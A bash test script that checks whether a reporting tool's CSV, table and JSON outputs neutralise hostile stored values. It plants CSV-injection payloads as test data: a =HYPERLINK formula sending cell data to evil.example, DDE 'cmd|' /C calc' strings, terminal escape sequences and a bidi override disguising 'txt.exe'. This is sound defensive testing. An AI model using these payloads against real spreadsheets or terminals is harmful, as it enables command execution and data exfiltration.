#!/bin/bash
# test_output_safety: store data that tries to become a spreadsheet formula
# or a terminal escape sequence, through real reports (issue 16, item 5;
# docs/security.md, "Output").  A generated chain goes through real agents
# and a collector; then, as the admin, SQL gives branch B001 a hostile name
# and adds complaints and lost customers whose category, contact point and
# reason carry =HYPERLINK(, @SUM(, +/- DDE payloads, ESC, BEL, CR, a bidi
# override and a C1 CSI.  For rank and scorecard:
# - CSV: every cell a spreadsheet would run (starting with = + - @ tab CR)
#   is neutralised with a leading ' (a number or a number list, e.g. -5.6 or
#   a trend "- 3.2 -1.0", stays as it is); numeric columns stay numbers;
# - table: no control byte but LF, no DEL, C1, bidi override; the hostile
#   characters are shown escaped (\x1b);
# - JSON: parses, holds the stored strings unchanged, carries no raw
#   control byte.
source "$(dirname "$0")/lib.sh"

bm_load_generated 3 --regions 1 --competitors 2 --days 70 --scale 0.1 --seed 7 --end 2026-11-20
note "stored $BM_LOADED records"

# E'' strings: \x1b ESC, \x07 BEL, \r CR, \u202e RIGHT-TO-LEFT OVERRIDE,
# \u009b the C1 CSI.
bm_psql "UPDATE branches SET name = E'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ruse\")\\x1b[2J'
          WHERE code = 'B001'" >/dev/null || fail "renaming B001"
bm_psql "INSERT INTO complaints (branch_id, source_id, received_at_src, category, contact_point, channel)
         SELECT b.id, 'evil-' || g || '-' || c.n, timestamptz '2026-10-15 12:00Z' + g * interval '1 h',
                c.cat, c.cp, 'web'
           FROM branches b, generate_series(1, 2) g,
                (VALUES (1, E'=HYPERLINK(\"http://evil.example/\",\"x\")', E'@SUM(A1:A9)'),
                        (2, E'ESC\\x1b]0;pwned\\x07 \\x1b[31mred', E'\\rCR hides'),
                        (3, E'+1+cmd|'' /C calc''!A0', E'bidi \\u202etxt.exe'),
                        (4, E'\\tTAB', E'C1 \\u009b31m')) c(n, cat, cp)
          WHERE b.code = 'B001'" >/dev/null || fail "inserting hostile complaints"
bm_psql "INSERT INTO customer_changes (branch_id, source_id, at, kind, reason)
         SELECT b.id, 'evil-lost-' || g, timestamptz '2026-10-16 10:00Z', 'lost',
                E'-2+3+cmd|'' /C calc''!A0'
           FROM branches b, generate_series(1, 3) g WHERE b.code = 'B001'" >/dev/null ||
    fail "inserting hostile lost reasons"

run_report() { # run_report FORMAT ARGS... > file
    local fmt=$1
    shift
    "$BM_TOOL" "$@" --db "$BM_DB" --at 2026-10-15 --format "$fmt"
}

for f in table csv json; do
    run_report "$f" scorecard B001 >"$T/scorecard.$f" 2>"$T/scorecard.$f.err" ||
        { cat "$T/scorecard.$f.err"; fail "scorecard --format $f"; }
    run_report "$f" rank --metric complaints_per_1000 >"$T/rank.$f" 2>"$T/rank.$f.err" ||
        { cat "$T/rank.$f.err"; fail "rank --format $f"; }
done
grep -q 'HYPERLINK' "$T/scorecard.csv" || fail "the hostile category is not in the scorecard"
grep -q 'calc' "$T/scorecard.csv" || fail "the hostile lost reason is not in the scorecard"
grep -q 'HYPERLINK' "$T/rank.csv" || fail "the hostile branch name is not in the ranking"

# CSV: parse every table (blank lines separate them) and check each cell.
python3 - "$T/scorecard.csv" "$T/rank.csv" <<'EOF' || fail "CSV cells not neutralised"
import csv, io, re, sys
number_list = re.compile(r'^(-|-?[0-9]+(\.[0-9]+)?)( (-|-?[0-9]+(\.[0-9]+)?))*$')
bad, neutralised = [], 0
for path in sys.argv[1:]:
    raw = open(path, 'rb').read()
    if b'\x1b' in raw or b'\x07' in raw or '\u202e'.encode() in raw or '\u009b'.encode() in raw:
        bad.append(path + ': raw control character')
    for row in csv.reader(io.StringIO(raw.decode('utf-8'), newline='')):
        for cell in row:
            if cell.startswith("'"):
                neutralised += 1
            elif cell[:1] in ('=', '+', '@', '\t', '\r') or \
                 (cell.startswith('-') and not number_list.match(cell)):
                bad.append(f'{path}: {cell!r}')
for b in bad:
    print(b)
print(f'{neutralised} cells neutralised')
sys.exit(1 if bad or neutralised < 6 else 0)
EOF
# The ranking's numbers are numbers: the value column parses as a float.
python3 - "$T/rank.csv" <<'EOF' || fail "numeric cells changed"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
vals = [r['value'] for r in rows if r.get('branch', '').startswith('B')]
assert vals and all(v == '' or float(v) == float(v) for v in vals), vals
EOF

# Table: no control byte but LF; the escapes visible.
for f in "$T/scorecard.table" "$T/rank.table"; do
    if LC_ALL=C grep -q -P '[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]' "$f"; then
        LC_ALL=C grep -n -P '[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]' "$f" | cat -v | head
        fail "$(basename "$f") prints raw control characters"
    fi
done
grep -qF 'ESC\x1b]0;pwned\x07 \x1b[31mred' "$T/scorecard.table" || fail "ESC not shown escaped"
grep -qF '\rCR hides' "$T/scorecard.table" || fail "CR not shown escaped"
grep -qF 'bidi \u202etxt.exe' "$T/scorecard.table" || fail "bidi override not shown escaped"
grep -qF '\x1b[2J' "$T/rank.table" || fail "the branch name's ESC not shown escaped"

# JSON: parses, and the strings are the stored ones.
python3 - "$T/scorecard.json" "$T/rank.json" <<'EOF' || fail "JSON output"
import json, sys
for path in sys.argv[1:]:
    raw = open(path, 'rb').read()
    assert all(b >= 0x20 or b == 0x0a for b in raw), path + ': raw control byte'
    doc = json.loads(raw)
    text = json.dumps(doc, ensure_ascii=False)
    assert '=HYPERLINK(' in text, path
sc = json.load(open(sys.argv[1]))
cats = {r['category'] for r in sc['complaint_categories']}
assert 'ESC\x1b]0;pwned\x07 \x1b[31mred' in cats, cats
cps = {r['contact_point'] for r in sc['complaint_contact_points']}
assert '\rCR hides' in cps and 'bidi \u202etxt.exe' in cps and 'C1 \u009b31m' in cps, cps
EOF
note "CSV neutralised, table escaped, JSON exact"
